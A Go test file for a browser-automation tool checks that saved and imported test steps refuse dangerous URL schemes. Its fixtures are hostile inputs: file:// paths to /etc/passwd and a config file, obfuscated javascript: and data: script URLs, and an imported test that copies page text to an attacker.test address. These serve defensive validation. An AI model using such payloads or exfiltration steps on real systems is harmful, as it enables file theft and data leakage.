package protocol

import (
	"strings"
	"testing"
)

// refusedURLs are addresses a test may not send the browser to, written
// the ways browsers still read as those schemes.
var refusedURLs = map[string]string{
	"file:///etc/passwd":                               "file",
	"FILE://localhost/home/ann/.config/agent.json":     "file",
	"file://${home}/.config/agent.json":                "file",
	"  JaVa\tScript:alert(1)":                          "javascript",
	"\x01\x02java\nscript:alert(1)":                    "javascript",
	"javascript:${code}":                               "javascript",
	"data:text/html,<script>alert(1)</script>":         "data",
	"view-source:http://127.0.0.1/":                    "view-source",
	"chrome://settings":                                "chrome",
	"chrome-untrusted://terminal/":                     "chrome-untrusted",
	"devtools://devtools/bundled/inspector.html":       "devtools",
	"filesystem:http://127.0.0.1/temporary/a.txt":      "filesystem",
	"blob:http://127.0.0.1/0c2b5e0e-1f0c-4c1e-9ad1-51": "blob",
	"about:srcdoc":                                     "about",
	"about:blank${x}":                                  "about",
	"C:\\Users\\ann\\secret.txt":                       "c",
	"localhost:3000/login":                             "localhost",
	"mailto:ann@example.com":                           "mailto",
}

// openableURLs are addresses saving lets through: http(s), about:blank,
// relative ones, and ones whose scheme only a reference can tell.
var openableURLs = []string{
	"https://shop.example.com/login", "HTTP://127.0.0.1:8080/", " http://x.test/ ", "about:blank", "ABOUT:BLANK#top",
	"/login", "login", "./a:b", "?q=file:///etc", "#x", "//cdn.example.com/x", "${baseUrl}/login", "${url}",
	"${scheme}://x", "fi${le}:///etc/passwd", "", "   ",
}

func TestRefusedScheme(t *testing.T) {
	for u, want := range refusedURLs {
		if got := RefusedScheme(u); got != want {
			t.Errorf("RefusedScheme(%q) = %q, want %q", u, got, want)
		}
	}
	for _, u := range openableURLs {
		if got := RefusedScheme(u); got != "" {
			t.Errorf("RefusedScheme(%q) = %q, want it let through", u, got)
		}
	}
}

func TestCheckOpenURL(t *testing.T) {
	for _, u := range []string{"https://shop.example.com/login", "http://127.0.0.1:8080/a?b#c", "about:blank", "about:blank#x"} {
		if why := CheckOpenURL(u); why != "" {
			t.Errorf("CheckOpenURL(%q) = %q, want it opened", u, why)
		}
	}
	for u := range refusedURLs {
		if why := CheckOpenURL(u); why != OpenRule {
			t.Errorf("CheckOpenURL(%q) = %q, want %q", u, why, OpenRule)
		}
	}
	// After interpolation nothing is relative any more, and only a real
	// http(s) address with a host goes.
	for _, u := range []string{"/login", "http:/login", "https://", " http://x.test/", "\thttp://x.test/", "${x}", ""} {
		if why := CheckOpenURL(u); !strings.HasSuffix(why, OpenRule) {
			t.Errorf("CheckOpenURL(%q) = %q, want a refusal", u, why)
		}
	}
}

// TestSaveRefusesSchemes: a navigate step whose literal address starts
// with a refused scheme is an issue at its url, with code url_scheme;
// saving and importing answer 422 with it.
func TestSaveRefusesSchemes(t *testing.T) {
	for u, scheme := range refusedURLs {
		d := validDoc()
		d.Steps[0].URL = u
		is := d.Validate()
		wantIssues(t, is, "steps[0].url url_scheme")
		if len(is) == 1 && (!strings.Contains(is[0].Message, scheme+":") || !strings.Contains(is[0].Message, OpenRule)) {
			t.Errorf("%q: message %q", u, is[0].Message)
		}
	}
	for _, u := range openableURLs {
		if strings.TrimSpace(u) == "" {
			continue
		}
		d := validDoc()
		d.Steps[0].URL = u
		wantIssues(t, d.Validate())
	}
	// A legacy document is migrated, then refused the same way.
	_, _, is := Parse([]byte(`{"version":1,"name":"Legacy","steps":[{"command":"open","target":"file:///etc/passwd"}]}`))
	wantIssues(t, is, "steps[0].url url_scheme")
}

func TestImportSideRefusesSchemes(t *testing.T) {
	side := func(base, open string) string {
		return `{"name":"P","url":"` + base + `","tests":[{"id":"t1","name":"Leak","commands":[` +
			`{"command":"customClick","target":"hi"},{"command":"open","target":"` + open + `"},` +
			`{"command":"storeText","target":"css=body","value":"tok"},{"command":"open","target":"http://attacker.test/?d=${tok}"}]}]}`
	}
	cases := []struct {
		base, open string
		want       []string
	}{
		{"https://shop.example.com", "file:///home/ann/.config/agent.json", []string{"tests[0].commands[1].target url_scheme"}},
		{"https://shop.example.com", `  JaVa\tScript:alert(1)`, []string{"tests[0].commands[1].target url_scheme"}},
		{"https://shop.example.com", "view-source:https://shop.example.com/", []string{"tests[0].commands[1].target url_scheme"}},
		// The project's url is what relative opens resolve against.
		{"file:///home/ann/", "/.config/agent.json", []string{"tests[0].commands[1].target url_scheme", "url url_scheme"}},
	}
	for _, c := range cases {
		_, _, is := ImportSide([]byte(side(c.base, c.open)))
		wantIssues(t, is, c.want...)
	}
	docs, skipped, is := ImportSide([]byte(side("https://shop.example.com", "/search")))
	wantIssues(t, is)
	if len(docs) != 1 || len(docs[0].Steps) != 3 || docs[0].Steps[0].URL != "https://shop.example.com/search" {
		t.Errorf("docs %+v skipped %+v", docs, skipped)
	}
}
